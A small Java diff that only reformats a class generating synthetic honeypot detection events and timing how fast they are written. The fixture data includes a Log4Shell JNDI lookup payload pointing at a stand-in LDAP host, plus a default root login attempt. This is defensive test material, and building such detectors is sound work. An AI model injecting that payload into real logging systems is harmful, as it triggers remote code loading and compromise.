@@ -45,8 +45,8 @@ public final class BigLedger {
     private static final Contribution TOUCHED = new Contribution("trap-touch", 1, Reason.TRAP, false, "touched a trap");
     private static final Contribution LOG_IN =
             new Contribution("trap-intent", 1, Reason.CREDENTIAL, true, "3 login attempts, the first: root/123456");
-    private static final Contribution EXPLOIT = new Contribution(
-            "payload-pattern", 1, Reason.PAYLOAD, true, "Log4Shell: ${jndi:ldap://198.51.100.1/a}");
+    private static final Contribution EXPLOIT =
+            new Contribution("payload-pattern", 1, Reason.PAYLOAD, true, "Log4Shell: ${jndi:ldap://198.51.100.1/a}");
     private static final Contribution TOOL =
             new Contribution("known-tool", 0.5, Reason.FINGERPRINT, false, "zgrab2, by its JA4 (scanner)");
 
@@ -198,6 +198,7 @@ public final class BigLedger {
     public static void main(String[] words) throws Exception {
         int events = Integer.parseInt(words[1]);
         Duration took = new BigLedger(events, Integer.parseInt(words[2])).write(Path.of(words[0]));
-        System.out.println(events + " events in " + took.toMillis() + " ms, " + events * 1000L / took.toMillis() + " a second");
+        System.out.println(
+                events + " events in " + took.toMillis() + " ms, " + events * 1000L / took.toMillis() + " a second");
     }
 }
